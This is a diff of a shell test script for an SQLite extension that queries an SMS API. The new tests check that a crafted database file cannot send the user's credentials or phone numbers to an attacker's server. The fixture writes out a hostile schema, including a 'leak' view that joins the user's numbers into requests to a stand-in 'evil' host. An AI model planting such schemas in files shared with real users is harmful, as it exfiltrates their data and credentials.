@@ -39,20 +39,37 @@ check_match "a table's base_url elsewhere gets no environment credentials" \
   "no credentials for http://127.0.0.1:$evil_PORT \\(SMS_API_USERNAME and SMS_API_PASSWORD are only sent to SMS_API_BASE_URL" "$out"
 check "... and the other server saw no request" "" "$(cat "$evil_LOG")"
 
-# 3. a database file from a stranger: a table on another server, read through a view
+# 3. a database file from a stranger: tables on another server, read through views. A
+# table whose base_url is not the user's API may not be used from the schema at all
+# (SQLITE_VTAB_DIRECTONLY): neither the user's credentials nor the user's data (numbers
+# joined in as program ids) can reach that server. Views over the user's own API work.
 rm -f "$TMPDIR_SMS/hostile.db"
 ( unset SMS_API_USERNAME SMS_API_PASSWORD; "$SQLITE3" -cmd ".load $EXT" "$TMPDIR_SMS/hostile.db" <<SQL
 CREATE VIRTUAL TABLE inbox USING sms_messages(program_id=4711, base_url='$evil_URL');
 CREATE VIEW report AS SELECT type, count(*) AS n FROM inbox GROUP BY type;
+CREATE VIRTUAL TABLE evil USING sms_messages(base_url='$evil_URL', username=x, password=y);
+CREATE VIEW leak AS SELECT g.date FROM sms_messages AS g JOIN evil AS e ON e.program_id = g.number
+  WHERE g.program_id = 4711;
 CREATE VIEW honest AS SELECT type, count(*) AS n FROM sms_messages(4711) GROUP BY type;
+CREATE VIRTUAL TABLE mine USING sms_messages(program_id=4711, page_size=100);
+CREATE VIEW honest2 AS SELECT count(*) FROM mine;
 SQL
 )
 : > "$evil_LOG"
 out=$(echo "SELECT * FROM report;" | sql "$TMPDIR_SMS/hostile.db")
-check_match "hostile schema: the view fails with no credentials" "sms_messages: no credentials for http://127.0.0.1:$evil_PORT" "$out"
+check "hostile schema: a view over a table on another server is refused" \
+  'Parse error near line 1: unsafe use of virtual table "inbox"' "$out"
+out=$(echo "SELECT * FROM leak;" | sql "$TMPDIR_SMS/hostile.db")
+check "hostile schema: a view that would send the user's numbers elsewhere is refused" \
+  'Parse error near line 1: unsafe use of virtual table "evil"' "$out"
 check "hostile schema: the attacker's server saw nothing" "" "$(cat "$evil_LOG")"
 check "a view over the eponymous table in a database file works" "2" \
   "$(echo "SELECT count(*) FROM honest;" | sql "$TMPDIR_SMS/hostile.db")"
+check "a view over a table on the user's own API works" "30" \
+  "$(echo "SELECT * FROM honest2;" | sql "$TMPDIR_SMS/hostile.db")"
+check_match "the user's own query may still use a table on another server (its server answers)" \
+  "sms_messages: authentication failed for user 'x' \\(HTTP 401" \
+  "$(echo "SELECT count(*) FROM evil WHERE program_id = 4711;" | sql "$TMPDIR_SMS/hostile.db")"
 
 # 4. options go to their own table's base_url, and nowhere else
 : > "$evil_LOG"
